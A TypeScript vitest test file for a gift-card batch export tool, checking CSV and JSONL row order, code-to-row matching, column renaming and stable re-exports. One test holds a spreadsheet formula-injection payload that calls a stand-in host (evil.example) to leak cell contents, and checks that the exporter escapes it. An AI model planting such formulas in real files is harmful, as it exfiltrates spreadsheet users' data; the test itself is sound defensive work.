// batch export: one line for each card, in the order of the input, with the code that belongs to its row.
import { describe, expect, test } from 'vitest'
import { type ChangeOrder, codesOf, openBuyer } from './buyer.ts'

const people = {
  columns: ['name', 'cost centre'],
  rows: [
    { sku: 'GAME-US', quote: '25', quantity: 2, cells: ['Ana', '7'] },
    { sku: 'COFFEE-US', quote: '5', cells: ['Bo', ''] },
    { sku: 'GAME-US', quote: '25', cells: ['Chi', '8'] },
  ],
  slots: [2, 1, 1, 2],
}

const buyAll = async (plan: Parameters<typeof openBuyer>[0]) => {
  const buyer = await openBuyer(plan)
  await buyer.start()
  const orders: string[] = []
  for (const slot of new Set(plan.slots ?? [1])) orders[slot] = await buyer.buy(slot)
  buyer.settle()
  return { ...buyer, orders }
}

const shown = (rows: readonly Record<string, string>[], ...columns: string[]): string[] =>
  rows.map((row) => columns.map((column) => row[column]).join(' '))

describe('the lines', () => {
  test('are in the order of the input, with all columns of the input', async () => {
    const { exported, read, orders } = await buyAll(people)
    const rows = await exported('codes.csv')
    expect(read('codes.csv').split('\r\n')[0]).toBe(
      '"sku","quote","quantity","name","cost centre","order_id","reference","state","error","redeem_with","code","pin","serial","link","expires"',
    )
    expect(
      shown(rows, 'sku', 'quote', 'quantity', 'name', 'cost centre', 'order_id', 'reference', 'state'),
    ).toEqual([
      `GAME-US 25 2 Ana 7 ${orders[2]} orders-0002 delivered`,
      `GAME-US 25 2 Ana 7 ${orders[1]} orders-0001 delivered`,
      `COFFEE-US 5 1 Bo  ${orders[1]} orders-0001 delivered`,
      `GAME-US 25 1 Chi 8 ${orders[2]} orders-0002 delivered`,
    ])
    expect(rows[0]).toMatchObject({
      error: '',
      pin: expect.stringMatching(/./),
      serial: expect.stringMatching(/./),
      link: expect.stringMatching(/^https:/),
      expires: expect.stringMatching(/^\d{4}-/),
    })
  })

  test('have each code of the service once, also PINs without a code', async () => {
    const buyer = await buyAll(people)
    const rows = await buyer.exported('codes.csv')
    const [first, second] = [
      await codesOf(buyer, buyer.orders[1] ?? ''),
      await codesOf(buyer, buyer.orders[2] ?? ''),
    ]
    expect(rows.map(({ code, pin }) => code || pin)).toEqual([
      second['GAME-US']?.[0],
      first['GAME-US']?.[0],
      first['COFFEE-US']?.[0],
      second['GAME-US']?.[1],
    ])
    expect(rows.map((row) => row.redeem_with)).toEqual(rows.map(({ code, pin }) => code || pin))
    expect(rows[2]).toMatchObject({ code: '', link: 'https://redeem.example/COFFEE-US' })
  })

  test('as JSONL have the same keys in the same order, numbers, and null for missing values', async () => {
    const { exports, read, orders } = await buyAll({
      ...people,
      columns: ['2026', '__proto__'],
    })
    expect((await exports('codes.jsonl')).exit).toBe(0)
    const lines = read('codes.jsonl').trimEnd().split('\n')
    expect(lines).toHaveLength(4)
    expect([...(lines[2] ?? '').matchAll(/"([^"]*)":/g)].map(([, key]) => key).join()).toBe(
      'sku,quote,quantity,2026,__proto__,order_id,reference,state,error,redeem_with,code,pin,serial,link,expires',
    )
    expect(lines[2]).toMatch(/^\{"sku":"COFFEE-US","quote":5,"quantity":1,"2026":"Bo","__proto__":"",/)
    expect(JSON.parse(lines[2] ?? '')).toMatchObject({
      ...{ order_id: orders[1], state: 'delivered', error: null, code: null, serial: null, expires: null },
      pin: expect.stringMatching(/./),
    })
  })

  test('rename a column of the input that has the name of another column', async () => {
    const { exported, read } = await buyAll({
      columns: ['code', 'input_code', 'line', 'Code'],
      rows: [{ sku: 'GAME-US', quote: '25', cells: ['a', 'b', 'c', 'd'] }],
    })
    const [row] = await exported('codes.csv')
    expect(row).toMatchObject({
      input_input_code: 'a',
      input_code: 'b',
      line: 'c',
      Code: 'd',
    })
    expect(read('codes.csv').split('\r\n')[0]).toMatch(
      /^"sku","quote","quantity","input_input_code","input_code","line","Code","order_id",/,
    )
  })

  test('hold no formula that the input brought', async () => {
    const formula = '=HYPERLINK("https://evil.example?x="&A1)'
    const { exported, exports, read } = await buyAll({
      columns: ['name', '@SUM(A1)'],
      rows: [{ sku: 'GAME-US', quote: '25', cells: [formula, "'x"] }],
    })
    const [row] = await exported('codes.csv')
    expect(row).toMatchObject({ name: `'${formula}`, "'@SUM(A1)": "''x" })
    await exports('codes.jsonl')
    expect(JSON.parse(read('codes.jsonl'))).toMatchObject({ name: formula, '@SUM(A1)': "'x" })
  })
})

describe('two exports give each row the same code', () => {
  const three = { rows: [{ sku: 'GAME-US', quote: '25', quantity: 3 }] }

  test.each<[string, Record<string, string>, ChangeOrder]>([
    ['cards', { sku: 'GAME-US', quote: '25' }, ({ redeem }) => redeem['GAME-US'].cards.reverse()],
    ['PINs', { sku: 'COFFEE-US', quote: '5' }, ({ redeem }) => redeem['COFFEE-US'].redeemPin.reverse()],
  ])('if the service lists the %s in another order', async (_, { sku = '', quote = '' }, reverse) => {
    const { exported, changeOrders } = await buyAll({ rows: [{ sku, quote, quantity: 3 }] })
    const before = await exported('before.csv')
    changeOrders(reverse)
    expect(await exported('after.csv')).toEqual(before)
    expect(new Set(before.map(({ code, pin }) => code || pin)).size).toBe(3)
  })

  test('and a card that the service no longer shows has none', async () => {
    const { exported, exports, changeOrders } = await buyAll(three)
    const before = await exported('before.csv')
    changeOrders(({ redeem }) => redeem['GAME-US'].cards.splice(1, 1))
    const after = await exported('after.csv')
    expect([after[0], after[2]]).toEqual([before[0], before[2]])
    expect(after[1]).toMatchObject({
      ...{ state: 'delivered', error: 'the service no longer shows this card', code: '', pin: '' },
      reference: 'orders-0001',
    })
    expect((await exports('again.csv')).stderr).toMatch(
      /^warning: the service no longer shows 1 card that it delivered; the file has no code for it\. Ask the support of the service\.\nWrote 2 cards /,
    )
  })

  test('and a card that belongs to nobody is given to nobody', async () => {
    const { exported, exports, changeOrders, orders, read } = await buyAll(three)
    const before = await exported('before.csv')
    changeOrders(({ redeem }) => {
      redeem['GAME-US'].cards.unshift({ ...redeem['GAME-US'].cards[0], redeemCardCode: 'NOBODY-1' })
    })
    expect(await exported('after.csv')).toEqual(before)
    expect((await exports('again.csv')).stderr).toMatch(
      `warning: 1 card belongs to no row and is not in the file. Show the cards of the order:\n  orderctl redeem ${orders[1]} --reveal\nWrote 3 cards `,
    )
    expect(read('again.csv')).not.toContain('NOBODY-1')
  })

  test('and a changed card goes to nobody else', async () => {
    const { exported, changeOrders } = await buyAll(three)
    const before = await exported('before.csv')
    changeOrders(({ redeem }) => {
      redeem['GAME-US'].cards[0].redeemCardCode = 'CHANGED-1'
    })
    const after = await exported('after.csv')
    expect(after.map(({ code }) => code)).toEqual(['', before[1]?.code, before[2]?.code])
  })
})
